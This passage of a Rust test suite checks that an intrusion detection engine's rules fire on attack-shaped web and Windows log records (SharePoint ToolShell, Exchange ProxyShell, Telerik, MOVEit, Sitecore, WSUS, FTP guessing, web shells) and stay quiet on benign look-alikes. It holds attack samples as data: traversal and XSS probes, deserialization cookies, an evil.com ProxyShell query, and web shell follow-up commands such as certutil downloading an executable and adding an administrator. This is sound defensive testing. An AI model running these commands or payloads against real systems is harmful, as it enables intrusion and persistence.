                get("/api/items", Some("filter=a;b&sort=id")),
            ),
            (
                "web_xss_probe.yml",
                get("/u001B]8;;https:/interact.sh\"/onmouseover=\"alert(1)/u0007example", None),
                get("/blog/onload-events-explained", None),
            ),
            (
                "web_path_traversal_answered.yml",
                get("/scripts/..%c1%1c../winnt/system32/cmd.exe", Some("/c+dir")),
                get("/scripts/jquery.min.js", None),
            ),
        ];
        fire_and_stay_quiet(&e, &cases);
    }

    /// A web request with these fields.
    fn request<'a>(method: &'a str, stem: &'a str, query: Option<&'a str>, status: &'a str) -> WebRow<'a> {
        WebRow { method: Some(method), stem: Some(stem), query, status: Some(status), ..WebRow::default() }
    }

    /// The exploitation of applications IIS hosts (SharePoint, Telerik UI,
    /// SolarWinds Orion, MOVEit Transfer, DotNetNuke, Sitecore, Exchange),
    /// each with the request the application makes itself or a scanner's
    /// probe that finds nothing.
    fn hosted_application_cases() -> Vec<(&'static str, View, View)> {
        let tool_pane = "/_layouts/15/ToolPane.aspx";
        let edit = Some("DisplayMode=Edit&a=/ToolPane.aspx");
        let cases: Vec<(&str, View, View)> = vec![
            (
                "web_sharepoint_toolshell.yml",
                web(WebRow {
                    referer: Some("/_layouts/SignOut.aspx"),
                    ..request("POST", tool_pane, edit, "200")
                }),
                // A signed-in user editing a web part from a page of the site.
                web(WebRow {
                    referer: Some("https://sp.contoso.com/SitePages/Home.aspx"),
                    username: Some("CONTOSO\\editor"),
                    ..request("POST", tool_pane, Some("DisplayMode=Edit&ID=3"), "200")
                }),
            ),
            (
                // The bypass of the first fix: a path going on past the page.
                "web_sharepoint_toolshell.yml",
                web(request("POST", "/_layouts/16/ToolPane.aspx/", edit, "200")),
                // The same post before a user signed in: the challenge.
                web(request("POST", tool_pane, edit, "401")),
            ),
            (
                "web_sharepoint_toolshell.yml",
                web(request("GET", "/_layouts/15/spinstall0.aspx", None, "200")),
                // A scanner looking for the name on a server without it.
                web(request("GET", "/_layouts/15/spinstall0.aspx", None, "404")),
            ),
            (
                "web_sharepoint_toolshell.yml",
                web(request("GET", "/_layouts/16/ghostfile93.aspx", None, "200")),
                web(request("GET", "/_layouts/15/start.aspx", None, "200")),
            ),
            (
                "web_telerik_ui_exploit.yml",
                web(request("POST", "/Telerik.Web.UI.WebResource.axd", Some("type=rau"), "200")),
                // An upload through a page's RadAsyncUpload names the page.
                web(WebRow {
                    referer: Some("https://shop.example/Upload.aspx"),
                    ..request("POST", "/Telerik.Web.UI.WebResource.axd", Some("type=rau"), "200")
                }),
            ),
            (
                "web_solarwinds_orion_exploit.yml",
                web(request(
                    "GET",
                    "/Orion/LogoImageHandler.ashx",
                    Some("codes=System.Diagnostics&clazz=Process&method=Start&args=cmd"),
                    "500",
                )),
                web(request("GET", "/Orion/LogoImageHandler.ashx", Some("id=SitelogoImage"), "200")),
            ),
            (
                "web_solarwinds_orion_exploit.yml",
                web(request("GET", "/web.config.i18n.ashx", Some("l=en-US&v=42165"), "200")),
                web(request("GET", "/Orion/js/jquery.js.i18n.ashx", Some("l=en-US&v=42165"), "200")),
            ),
            (
                "web_moveit_transfer_exploit.yml",
                web(WebRow {
                    client_ip: Some("5.252.189.5"),
                    ..request("POST", "/moveitisapi/moveitisapi.dll", Some("action=m2"), "200")
                }),
                // The server's own pages reaching the extension.
                web(WebRow {
                    client_ip: Some("127.0.0.1"),
                    ..request("POST", "/moveitisapi/moveitisapi.dll", Some("action=m2"), "200")
                }),
            ),
            (
                "web_known_webshell_names.yml",
                web(request("GET", "/human2.aspx", None, "200")),
                // Without its header, the shell answers as a missing page.
                web(request("GET", "/human2.aspx", None, "404")),
            ),
            (
                "web_dnn_personalization_cookie.yml",
                web(WebRow {
                    cookie: Some(
                        "DNNPersonalization=<profile><item+key=\"k\"+type=\"System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Data.ObjectDataProvider,+PresentationFramework]]\">",
                    ),
                    ..request("GET", "/__", None, "404")
                }),
                web(WebRow {
                    cookie: Some(
                        "DNNPersonalization=<profile><item+key=\"lang\"+type=\"System.String\">en</item></profile>",
                    ),
                    ..request("GET", "/Home", None, "200")
                }),
            ),
            (
                "web_sitecore_exploit.yml",
                web(request("POST", "/sitecore/shell/ClientBin/Reporting/Report.ashx", None, "200")),
                web(WebRow {
                    username: Some("sitecore\\admin"),
                    ..request("POST", "/sitecore/shell/ClientBin/Reporting/Report.ashx", None, "200")
                }),
            ),
            (
                "web_sitecore_exploit.yml",
                web(request("POST", "/sitecore/blocked.aspx", None, "200")),
                web(request("GET", "/sitecore/blocked.aspx", None, "200")),
            ),
            (
                "web_exchange_ecp_viewstate.yml",
                web(WebRow {
                    username: Some("CONTOSO\\clerk"),
                    ..request(
                        "GET",
                        "/ecp/default.aspx",
                        Some("__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP"),
                        "500",
                    )
                }),
                web(request("POST", "/ecp/default.aspx", Some("ExchClientVer=15"), "200")),
            ),
            (
                // A gadget chain signed with a SharePoint farm's stolen key,
                // sent to any page; a page's own state is a pair.
                "web_viewstate_serialized_query.yml",
                web(request(
                    "GET",
                    "/_layouts/15/success.aspx",
                    Some("__VIEWSTATEGENERATOR=AF878507&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAA"),
                    "500",
                )),
                web(request(
                    "GET",
                    "/search/results.aspx",
                    Some("__VIEWSTATE=%2FwEPDwUKMTY1NDU2MTA1MmRk&q=invoices"),
                    "200",
                )),
            ),
            (
                // ProxyNotShell: PowerShell named as a protocol.
                "web_exchange_proxyshell.yml",
                get(
                    "/autodiscover/autodiscover.json",
                    Some(
                        "@x.example/owa/&Email=autodiscover/autodiscover.json%3f@x.example&Protocol=XYZ&FooProtocol=Powershell",
                    ),
                ),
                // Autodiscover v2 asked for a mailbox's ActiveSync endpoint.
                get("/autodiscover/autodiscover.json/v1.0/clerk@contoso.com", Some("Protocol=ActiveSync")),
            ),
            (
                // WSUS's service path of CVE-2025-59287 (its other runs in
                // the worker); a shell the service control manager started
                // is no WSUS service's.
                "proc_wsus_service_spawns_shell.yml",
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4688,
                    &[
                        ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
                        (
                            "ParentProcessName",
                            "C:\\Program Files\\Update Services\\Services\\WsusService.exe",
                        ),
                        ("CommandLine", "cmd.exe /c powershell -ec SQBFAFgA"),
                    ],
                ),
                event(
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4688,
                    &[
                        ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
                        ("ParentProcessName", "C:\\Windows\\System32\\services.exe"),
                    ],
                ),
            ),
        ];
        cases
    }

    /// The variants real attempts take and the requests of busy, healthy
    /// farms, each by the title it must or must not fire: ToolShell's
    /// Referer in its other forms, a patched farm's refusal apart from the
    /// bypass that got through, a sign-in redirect; Sitecore's view state
    /// in a query and paths going on past its pages; ECP's shape without
    /// a user; Orion's logo handler posted to; Autodiscover v2 for a
    /// mailbox named like PowerShell.
    #[test]
    fn hosted_application_variants_and_their_look_alikes() {
        let e = engine();
        // The informational bases of correlations (a 404) left out.
        let titles = |row: WebRow<'_>| -> Vec<String> {
            let reported = matched(&e, &web(row)).into_iter().filter(|r| r.meta.level > Level::Informational);
            reported.map(|r| r.meta.title.clone()).collect()
        };
        let bypass = "SharePoint Tool Pane Posted Through The Sign-Out Bypass";
        let refused = "SharePoint Tool Pane Bypass Turned Away";
        let pane = |status, referer: Option<&'static str>, user: Option<&'static str>| WebRow {
            referer,
            username: user,
            ..request("POST", "/_layouts/15/ToolPane.aspx", Some("DisplayMode=Edit&a=/ToolPane.aspx"), status)
        };
        for referer in [
            "/_layouts/SignOut.aspx",
            "/_layouts/15/SignOut.aspx",
            "https://sp.contoso.com:443/_layouts/14/SignOut.aspx?ReturnUrl=/",
        ] {
            assert_eq!(titles(pane("200", Some(referer), None)), [bypass], "{referer}");
            // The Referer alone says it: a user named, no edit mode asked.
            let named = WebRow { query: Some("a=/ToolPane.aspx"), ..pane("500", Some(referer), Some("x")) };
            assert_eq!(titles(named), [bypass], "{referer}");
            for away in ["401", "403", "302"] {
                assert_eq!(titles(pane(away, Some(referer), None)), [refused], "{referer} {away}");
            }
            // A server that is no SharePoint.
            assert_eq!(titles(pane("404", Some(referer), None)), Vec::<String>::new(), "{referer}");
        }
        // A forms or SAML farm sends every anonymous request to sign in.
        assert!(titles(pane("302", Some("https://sp.contoso.com/SitePages/Home.aspx"), None)).is_empty());
        assert!(titles(pane("401", None, None)).is_empty(), "NTLM's first round");
        assert!(titles(pane("200", None, Some("CONTOSO\\editor"))).is_empty(), "a signed-in editor");
        let sitecore = "Sitecore Report Handler, Blocked Page Or Tutorial XAML Page Sent A Payload";
        for row in [
            request("POST", "/-/xaml/Sitecore.Xaml.Tutorials.Styles.Index", None, "200"),
            request("POST", "/sitecore_xaml.ashx/-/xaml/Sitecore.Xaml.Tutorials.Styles.Index", None, "200"),
            request(
                "GET",
                "/sitecore/blocked.aspx",
                Some("__VIEWSTATE=%2FwEPDwUK&__VIEWSTATEGENERATOR=DE2AF8E2"),
                "500",
            ),
            request("POST", "/sitecore/blocked.aspx/", None, "200"),
            request("POST", "/sitecore/shell/ClientBin/Reporting/Report.ashx/x", None, "200"),
        ] {
            assert_eq!(titles(row), [sitecore], "{row:?}");
        }
        assert!(titles(request("GET", "/sitecore/blocked.aspx", Some("item=/home"), "200")).is_empty());
        // The content editor's own XAML pages, posted to by a signed-in editor.
        let editor = WebRow {
            username: Some("sitecore\\editor"),
            ..request(
                "POST",
                "/sitecore/shell/~/xaml/Sitecore.Shell.Applications.Dialogs.ItemLister",
                None,
                "200",
            )
        };
        assert!(titles(editor).is_empty());
        let ecp = request(
            "GET",
            "/ecp/default.aspx",
            Some("__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP"),
            "302",
        );
        assert_eq!(titles(ecp), ["Exchange Control Panel Asked With View State In The Query, Not Signed In"]);
        assert_eq!(
            titles(WebRow { username: Some("CONTOSO\\clerk"), status: Some("500"), ..ecp }),
            ["Exchange Control Panel Asked With View State In The Query (CVE-2020-0688)"]
        );
        let orion = "SolarWinds Orion Web Shell Or Authentication Bypass Request";
        assert_eq!(titles(request("POST", "/Orion/LogoImageHandler.ashx", None, "500")), [orion]);
        // Probes of a server without the application, or of one that
        // sends every plain HTTP request to HTTPS or to sign in, or
        // challenges for Windows sign-in, before any file is looked up.
        for status in ["404", "301", "302", "307", "401", "403"] {
            for probe in [
                request("POST", "/Orion/LogoImageHandler.ashx", None, status),
                request("GET", "/web.config.i18n.ashx", Some("l=en-US&v=43005.58.L"), status),
                request("POST", "/sitecore/shell/ClientBin/Reporting/Report.ashx", None, status),
                request("POST", "/moveitisapi/moveitisapi.dll", Some("action=m2"), status),
            ] {
                assert_eq!(titles(probe), Vec::<String>::new(), "{probe:?}");
            }
        }
        // MOVEit's own pages reach the extension through the server's own
        // address as well as through loopback; another address is not.
        let m2 = |client| WebRow {
            client_ip: Some(client),
            server_ip: Some("10.0.0.5"),
            ..request("POST", "/moveitisapi/moveitisapi.dll", Some("action=m2"), "200")
        };
        assert!(titles(m2("10.0.0.5")).is_empty());
        assert_eq!(
            titles(m2("10.0.0.6")),
            ["MOVEit Transfer ISAPI Asked For Its Internal Action From Outside (CVE-2023-34362)"]
        );
        // The bypass turned away is seen, but below the bar a healthy day
        // keeps: a redirecting site answers the spray as a patched farm.
        let away = matched(&e, &web(pane("302", Some("/_layouts/SignOut.aspx"), None)));
        assert_eq!(away.iter().map(|r| r.meta.level).collect::<Vec<_>>(), [Level::Low]);
        // ProxyLogon's forged requests go through static files of ECP and
        // OWA's sign-in pages, which clients only ever GET.
        let proxylogon = "Exchange ProxyShell Or ProxyLogon Request Shape";
        for stem in [
            "/ecp/y.js",
            "/ecp/default.flt",
            "/ecp/main.css",
            "/owa/auth/x.js",
            "/owa/auth/Current/themes/resources/logon.css",
            "/owa/auth/Current/themes/resources/lgnbotl.gif",
            "/owa/auth/Current/themes/resources/SegoeUI-SemiBold.eot",
        ] {
            assert_eq!(titles(request("POST", stem, None, "200")), [proxylogon], "{stem}");
            assert!(titles(request("GET", stem, None, "200")).is_empty(), "{stem}");
            assert!(
                titles(request("POST", stem, None, "404")).is_empty(),
                "a server without Exchange: {stem}"
            );
        }
        assert!(titles(request("POST", "/owa/auth.owa", None, "302")).is_empty(), "a sign-in");
        assert!(titles(request("POST", "/ecp/DDI/DDIService.svc/GetList", None, "200")).is_empty());
        assert_eq!(
            titles(request("GET", "/Orion/SWNetPerfMon.DB.i18n.ashx", Some("l=en-US&v=1"), "200")),
            [orion]
        );
        for (stem, query) in [
            (
                "/autodiscover/autodiscover.json/v1.0/powershell.automation@contoso.com",
                "Protocol=EWS&RedirectCount=1",
            ),
            (
                "/autodiscover/autodiscover.json",
                "Email=svc-powershell%40contoso.com&Protocol=ActiveSync&RedirectCount=1",
            ),
        ] {
            assert_eq!(
                titles(request("GET", stem, Some(query), "200")),
                Vec::<String>::new(),
                "{stem}?{query}"
            );
        }
        assert_eq!(
            titles(request(
                "GET",
                "/autodiscover/autodiscover.json",
                Some(
                    "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5k&Email=autodiscover/autodiscover.json%3F@evil.com"
                ),
                "200"
            )),
            ["Exchange ProxyShell Or ProxyLogon Request Shape"]
        );
        // Each of these only by PowerShell named as a path or a protocol.
        for query in [
            "@x.example/powershell/?X-Rps-CAT=VgEAVAdX",
            "@x.example/owa/&Protocol=XYZ&FooProtocol=Powershell",
        ] {
            assert_eq!(
                titles(request("GET", "/autodiscover/autodiscover.json", Some(query), "200")),
                ["Exchange ProxyShell Or ProxyLogon Request Shape"],
                "{query}"
            );
        }
    }

    /// Telerik's dialog handler: the key found by trial is many bare keys
    /// from one client; the editor's dialogs name themselves.
    #[test]
    fn telerik_dialog_keys_found_by_trial_are_many_bare_keys_from_one_client() {
        let bare = |client: &str, i: i64| {
            web(WebRow {
                client_ip: Some(client),
                ..request("GET", "/Telerik.Web.UI.DialogHandler.aspx", Some(&format!("dp=QUJD{i}")), "200")
            })
        };
        let trial: Vec<(i64, View)> = (0..50).map(|i| (i * 6, bare("203.0.113.9", i))).collect();
        assert_eq!(correlated(&trial), ["Telerik Dialog Handler Key Found By Trial (CVE-2017-9248)"]);
        let editors: Vec<(i64, View)> = (0..50)
            .map(|i| {
                let query = format!("DialogName=ImageManager&Skin=Default&dp=QUJD{i}");
                (
                    i * 6,
                    web(WebRow {
                        client_ip: Some("203.0.113.9"),
                        ..request("GET", "/Telerik.Web.UI.DialogHandler.aspx", Some(&query), "200")
                    }),
                )
            })
            .collect();
        assert!(correlated(&editors).is_empty(), "the editor's own dialogs");
        let named_after: Vec<(i64, View)> = (0..50)
            .map(|i| {
                let query = format!("dp=QUJD{i}&DialogName=DocumentManager");
                (i * 6, web(request("GET", "/Telerik.Web.UI.DialogHandler.aspx", Some(&query), "200")))
            })
            .collect();
        assert!(correlated(&named_after).is_empty(), "a dialog named after its parameters");
        let few: Vec<(i64, View)> = (0..49).map(|i| (i * 6, bare("203.0.113.9", i))).collect();
        assert!(correlated(&few).is_empty(), "49 are not 50");
        // DotNetNuke's editor provider serves the same handler; dp_cryptomg
        // also tries keys through the spell checker, from no page.
        let dnn: Vec<(i64, View)> = (0..50)
            .map(|i| {
                let query = format!("dp=bZ{i}");
                let stem = "/DesktopModules/Admin/RadEditorProvider/DialogHandler.aspx";
                (
                    i * 6,
                    web(WebRow {
                        client_ip: Some("198.51.100.11"),
                        ..request("GET", stem, Some(&query), "200")
                    }),
                )
            })
            .collect();
        assert_eq!(correlated(&dnn), ["Telerik Dialog Handler Key Found By Trial (CVE-2017-9248)"]);
        // The handler registered as .axd, as some sites do.
        let axd: Vec<(i64, View)> = (0..50)
            .map(|i| {
                let query = format!("dp=UvIm{i}");
                (i * 6, web(request("GET", "/Telerik.Web.UI.DialogHandler.axd", Some(&query), "200")))
            })
            .collect();
        assert_eq!(correlated(&axd), ["Telerik Dialog Handler Key Found By Trial (CVE-2017-9248)"]);
        let spell = |referer: Option<&'static str>| -> Vec<(i64, View)> {
            (0..50)
                .map(|i| {
                    let row = request("POST", "/Telerik.Web.UI.SpellCheckHandler.axd", None, "200");
                    (i * 6, web(WebRow { client_ip: Some("198.51.100.12"), referer, ..row }))
                })
                .collect()
        };
        assert_eq!(correlated(&spell(None)), ["Telerik Dialog Handler Key Found By Trial (CVE-2017-9248)"]);
        assert!(
            correlated(&spell(Some("https://shop.example/Editor.aspx"))).is_empty(),
            "an editor's spell checks"
        );
    }

    /// The two path traversal rules are one selection split by the answer:
    /// a text added to one and not the other would be found refused and
    /// missed answered (or the reverse).
    #[test]
    fn the_traversal_rules_share_their_selection() {
        let selection = |name: &str| {
            let (_, yaml) = super::BUNDLED.iter().find(|(n, _)| *n == name).expect("bundled");
            let from = yaml.find("detection:").expect("a detection");
            let to = yaml[from..].find("    answered:").expect("an answer test") + from;
            yaml[from..to].to_string()
        };
        assert_eq!(selection("web_path_traversal.yml"), selection("web_path_traversal_answered.yml"));
    }

    /// Each case's rule fires on its record and not on its look-alike.
    fn fire_and_stay_quiet(e: &Engine, cases: &[(&str, View, View)]) {
        for (rule, fires, quiet) in cases {
            assert!(fired(e, fires).iter().any(|f| f == rule), "{rule} must fire");
            assert!(!fired(e, quiet).iter().any(|f| f == rule), "{rule} must not fire on its look-alike");
        }
    }

    /// What a web shell does next, run as the pool's identity (Sysmon's
    /// User, Security's SubjectDomainName) or started by the worker, each
    /// its own rule; the same commands an administrator runs are none.
    #[test]
    fn a_pools_post_exploitation_commands_fire_and_an_administrators_do_not() {
        let e = engine();
        let titles = |view: View| -> Vec<String> {
            matched(&e, &view)
                .iter()
                .map(|r| r.meta.title.clone())
                .filter(|t| t.starts_with("IIS Worker Or Its Pool"))
                .collect()
        };
        let as_pool = |image: &str, command: &str| {
            sysmon(1, &[("Image", image), ("CommandLine", command), ("User", "IIS APPPOOL\\ShopPool")])
        };
        let as_admin = |image: &str, command: &str| {
            sysmon(1, &[("Image", image), ("CommandLine", command), ("User", "CONTOSO\\adm-jdoe")])
        };
        let audited = |image: &str, command: &str| {
            event(
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4688,
                &[("NewProcessName", image), ("CommandLine", command), ("SubjectDomainName", "IIS APPPOOL")],
            )
        };
        let net = "C:\\Windows\\System32\\net.exe";
        let schtasks = "C:\\Windows\\System32\\schtasks.exe";
        let certutil = "C:\\Windows\\System32\\certutil.exe";
        let reg = "C:\\Windows\\System32\\reg.exe";
        let cases = [
            (
                net,
                "net localgroup administrators svc_sql /add",
                "IIS Worker Or Its Pool Identity Creates An Account Or Adds An Administrator",
            ),
            (
                schtasks,
                "schtasks /create /tn \\Microsoft\\Windows\\WDI\\SrvHostUpd /ru SYSTEM /sc minute /tr x.exe",
                "IIS Worker Or Its Pool Identity Schedules A Task",
            ),
            (
                certutil,
                "certutil -urlcache -split -f http://45.133.1.77/u.exe C:\\ProgramData\\u.exe",
                "IIS Worker Or Its Pool Identity Downloads A File With A Windows Tool",
            ),
            (
                reg,
                "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
                "IIS Worker Or Its Pool Identity Enables Remote Desktop",
            ),
        ];
        for (image, command, title) in cases {
            assert_eq!(titles(as_pool(image, command)), [title], "{command}");
            assert_eq!(titles(audited(image, command)), [title], "{command} (4688)");
            assert_eq!(
                titles(as_admin(image, command)),
                Vec::<String>::new(),
                "{command} by an administrator"
            );
        }
        let worker_child =
            sysmon(1, &[("Image", net), ("CommandLine", "net user x /add"), ("ParentImage", W3WP)]);
        assert_eq!(
            titles(worker_child),
            ["IIS Worker Or Its Pool Identity Creates An Account Or Adds An Administrator"]
        );
        // Listing accounts and tasks is reconnaissance, the shell rules' part.
        assert_eq!(titles(as_pool(net, "net user")), Vec::<String>::new());
        assert_eq!(titles(as_pool(schtasks, "schtasks /query /fo LIST")), Vec::<String>::new());
        assert_eq!(titles(as_pool(certutil, "certutil -hashfile x.exe SHA256")), Vec::<String>::new());
    }

    /// The level of the bundled correlation titled `title`.
    fn engine_chain_level(title: &str) -> Level {
        let mut loaded = LoadReport::default();
        loaded.add_bundled();
        let loaded = loaded.finish();
        loaded.correlations.iter().find(|c| c.meta.title == title).map(|c| c.meta.level).expect("the chain")
    }

    /// A record's (field, value) pairs.
    type Fields = Vec<(String, String)>;

    /// The titles of the bundled correlations that fire over these
    /// (second, record) pairs.
    fn correlated(records: &[(i64, View)]) -> Vec<String> {
        let on_one: Vec<(i64, &str, View)> = records.iter().map(|(t, v)| (*t, "WEB01", v.clone())).collect();
        correlated_on(&on_one)
    }

    /// The titles of the correlations that fire on these records, each
    /// on its host.
    fn correlated_on(records: &[(i64, &str, View)]) -> Vec<String> {
        let mut loaded = LoadReport::default();
        loaded.add_bundled();
        let loaded = loaded.finish();
        assert!(loaded.skipped.is_empty(), "{:?}", loaded.skipped);
        let engine = Engine::new(loaded.rules.clone());
        let mut rows: Vec<(usize, i64, Fields, &str)> = Vec::new();
        for (t, host, v) in records {
            let mut hits = Vec::new();
            let mut v = v.clone();
            engine.matches(&mut v, &mut hits);
            let values: Vec<(String, String)> =
                v.fields().map(|(f, x)| (f.to_string(), x.to_string())).collect();
            rows.extend(hits.into_iter().map(|h| (h, *t, values.clone(), *host)));
        }
        let pairs: Vec<Vec<(&str, &str)>> = rows
            .iter()
            .map(|(_, _, values, _)| values.iter().map(|(f, v)| (f.as_str(), v.as_str())).collect())
            .collect();
        let matches: Vec<Match<'_>> = rows
            .iter()
            .zip(&pairs)
            .map(|((rule, time, _, host), values)| Match { rule: *rule, time: *time, values, host })
            .collect();
        let mut out = Vec::new();
        for (i, c) in loaded.correlations.iter().enumerate() {
            out.extend(c.evaluate(i, &matches).into_iter().map(|_| c.meta.title.clone()));
        }
        out
    }

    fn answered(client: &str, stem: &str, status: &str, sub: &str, win32: &str) -> View {
        web(WebRow {
            method: Some("GET"),
            stem: Some(stem),
            client_ip: Some(client),
            status: Some(status),
            substatus: Some(sub),
            win32: Some(win32),
            ..WebRow::default()
        })
    }

    /// sbousseaden's Tunna capture: after the connect request, thousands of
    /// `?proxy` GETs and POSTs from one client to one page carry the RDP
    /// session; a page whose query merely mentions a proxy, or a few data
    /// requests, do not.
    #[test]
    fn a_tunna_session_is_many_data_requests_from_one_client_to_one_page() {
        let data = |client: &str, stem: &str, query: &str, method: &str| {
            web(WebRow {
                method: Some(method),
                stem: Some(stem),
                query: Some(query),
                client_ip: Some(client),
                status: Some("200"),
                ..WebRow::default()
            })
        };
        let session: Vec<(i64, View)> = (0..40)
            .map(|i| {
                (i * 2, data("10.0.2.17", "/erp/conn.aspx", "proxy", if i % 2 == 0 { "GET" } else { "POST" }))
            })
            .collect();
        assert_eq!(correlated(&session), ["Tunna Tunnel Session"]);
        let settings: Vec<(i64, View)> =
            (0..40).map(|i| (i * 2, data("10.0.2.17", "/erp/orders.aspx", "view=proxy", "GET"))).collect();
        assert!(correlated(&settings).is_empty(), "a query that mentions a proxy");
        let few: Vec<(i64, View)> =
            (0..10).map(|i| (i * 2, data("10.0.2.17", "/erp/conn.aspx", "proxy", "GET"))).collect();
        assert!(correlated(&few).is_empty(), "ten requests are no session");
        // The same client tunnelling through the same page of two servers
        // of a farm: a session on each, each named on its server.
        let farm: Vec<(i64, &str, View)> =
            session.iter().flat_map(|(t, v)| [(*t, "WEB01", v.clone()), (*t, "WEB02", v.clone())]).collect();
        assert_eq!(correlated_on(&farm), ["Tunna Tunnel Session", "Tunna Tunnel Session"]);
    }

    /// Ten refused passwords from one client within five minutes; ten
    /// clients with one typo each, a client's refusals spread over hours,
    /// or web logins refused, are not FTP password guessing.
    #[test]
    fn ftp_password_guessing_is_many_refused_passwords_from_one_client() {
        let guess = |t: i64, client: &str| (t, ftp(client, "PASS", "***", "530"));
        let burst: Vec<(i64, View)> = (0..12).map(|i| guess(i * 10, "203.0.113.7")).collect();
        assert_eq!(correlated(&burst), ["Password Guessing Against The FTP Service"]);
        let typos: Vec<(i64, View)> = (0..12).map(|i| guess(i * 10, &format!("198.51.100.{i}"))).collect();
        assert!(correlated(&typos).is_empty(), "twelve users, one typo each");
        let botnet: Vec<(i64, View)> = (0..24).map(|i| guess(i * 20, &format!("198.51.100.{i}"))).collect();
        assert_eq!(correlated(&botnet), ["Password Guessing Against The FTP Service From Many Clients"]);
        let rare: Vec<(i64, View)> = (0..12).map(|i| guess(i * 600, "203.0.113.7")).collect();
        assert!(correlated(&rare).is_empty(), "one refusal every ten minutes");
        let paced: Vec<(i64, View)> = (0..40).map(|i| guess(i * 75, "203.0.113.7")).collect();
        assert_eq!(
            correlated(&paced),
            ["Sustained Password Guessing Against The FTP Service"],
            "four every five minutes"
        );
        let anonymous: Vec<(i64, View)> = (0..12)
            .map(|i| {
                let mut v = View::default();
                v.ftp(&WebRow {
                    method: Some("PASS"),
                    stem: Some("IEUser@"),
                    client_ip: Some("203.0.113.7"),
                    status: Some("530"),
                    substatus: Some("42"),
                    ..WebRow::default()
                });
                (i * 10, v)
            })
            .collect();
        assert!(correlated(&anonymous).is_empty(), "a client trying anonymous where it is off");
        let web: Vec<(i64, View)> = (0..12)
            .map(|i| {
                let row = WebRow {
                    method: Some("PASS"),
                    stem: Some("***"),
                    client_ip: Some("203.0.113.7"),
                    status: Some("530"),
                    ..WebRow::default()
                };
                (i * 10, web(row))
            })
            .collect();
        assert!(correlated(&web).is_empty(), "a web row is no FTP row");
    }

    /// A client's uploads of pages are one detection however many pages
    /// (a deployment of hundreds is one, as is a single shell); a PDF is
    /// none.
    #[test]
    fn a_clients_script_uploads_over_ftp_are_one_detection() {
        let deploy: Vec<(i64, View)> = (0..300)
            .map(|i| (i, ftp("10.0.3.41", "STOR", &format!("/wwwroot/page{i}.aspx"), "226")))
            .collect();
        assert_eq!(correlated(&deploy), ["Scripts Uploaded Over FTP"]);
        let shell = [(0, ftp("203.0.113.7", "STOR", "help.aspx", "226"))];
        assert_eq!(correlated(&shell), ["Scripts Uploaded Over FTP"]);
        let documents = [(0, ftp("10.0.3.41", "STOR", "/wwwroot/docs/price-list.pdf", "226"))];
        assert!(correlated(&documents).is_empty());
    }

    /// A page written into a site over HTTP (WebDAV's PUT, MOVE or COPY,
    /// answered 201 or 204) is one detection per client; a REST call, a
    /// handler answering a PUT, a refused write and a document are none.
    #[test]
    fn a_clients_script_writes_through_webdav_are_one_detection() {
        let write = |client: &str, method: &str, stem: &str, status: &str| {
            web(WebRow {
                method: Some(method),
                stem: Some(stem),
                client_ip: Some(client),
                status: Some(status),
                ..WebRow::default()
            })
        };
        let written = ["Scripts Written Through WebDAV"];
        let shell = [(0, write("203.0.113.7", "PUT", "/uploads/help.aspx", "201"))];
        assert_eq!(correlated(&shell), written);
        // IIS 6: a text file PUT, then its copy named to run as ASP.
        let iis6 = [
            (0, write("203.0.113.7", "PUT", "/test.txt", "201")),
            (5, write("203.0.113.7", "COPY", "/images/x.asp;.jpg", "201")),
        ];
        assert_eq!(correlated(&iis6), written);
        let config = [(0, write("203.0.113.7", "PUT", "/web.config", "204"))];
        assert_eq!(correlated(&config), written);
        for quiet in [
            write("10.0.3.41", "PUT", "/api/orders/5", "204"),
            write("10.0.3.41", "PUT", "/handlers/upload.ashx", "200"),
            write("203.0.113.7", "PUT", "/uploads/help.aspx", "403"),
            write("203.0.113.7", "PUT", "/uploads/help.aspx", "405"),
            write("10.0.3.41", "PUT", "/docs/price-list.pdf", "201"),
            write("10.0.3.41", "GET", "/uploads/help.aspx", "200"),
        ] {
            assert!(correlated(&[(0, quiet.clone())]).is_empty(), "{:?}", quiet.fields().collect::<Vec<_>>());
        }
    }

    #[test]
    fn a_scanner_is_many_missing_paths_from_one_client_in_minutes() {
        let scan: Vec<(i64, View)> = (0..30)
            .map(|i| (i * 3, answered("203.0.113.9", &format!("/probe{i}.php"), "404", "0", "2")))
            .collect();
        assert_eq!(correlated(&scan), ["Scanner Burst From One Client"]);
        let crowd: Vec<(i64, View)> = (0..30)
            .map(|i| (i * 3, answered(&format!("198.51.100.{i}"), &format!("/p{i}"), "404", "0", "2")))
            .collect();
        assert!(correlated(&crowd).is_empty(), "thirty visitors with one broken link each");
        let slow: Vec<(i64, View)> = (0..30)
            .map(|i| (i * 60, answered("203.0.113.9", &format!("/probe{i}.php"), "404", "0", "2")))
            .collect();
        assert!(correlated(&slow).is_empty(), "thirty minutes is not a burst");
        let same: Vec<(i64, View)> =
            (0..60).map(|i| (i * 3, answered("203.0.113.9", "/favicon.ico", "404", "0", "2"))).collect();
        assert!(correlated(&same).is_empty(), "one missing page asked for again and again");
        // 29 distinct paths, the first also asked for long before (a
        // repeat counts once), then a 30th distinct path.
        let mut sliding: Vec<(i64, View)> = (0..29)
            .map(|i| (200 + i * 3, answered("203.0.113.9", &format!("/probe{i}.php"), "404", "0", "2")))
            .collect();
        sliding.insert(0, (0, answered("203.0.113.9", "/probe0.php", "404", "0", "2")));
        sliding.push((290, answered("203.0.113.9", "/probe29.php", "404", "0", "2")));
        assert_eq!(correlated(&sliding), ["Scanner Burst From One Client"]);
        sliding.pop();
        assert!(correlated(&sliding).is_empty(), "29 distinct paths are not 30");
        // A path asked for once, more than the window (five minutes)
        // before 29 others, has left the window when they come: the
        // distinct count slides down, and only a 30th path inside the
        // window makes a burst.
        let mut expired: Vec<(i64, View)> = vec![(0, answered("203.0.113.9", "/early.php", "404", "0", "2"))];
        expired.extend(
            (0..29)
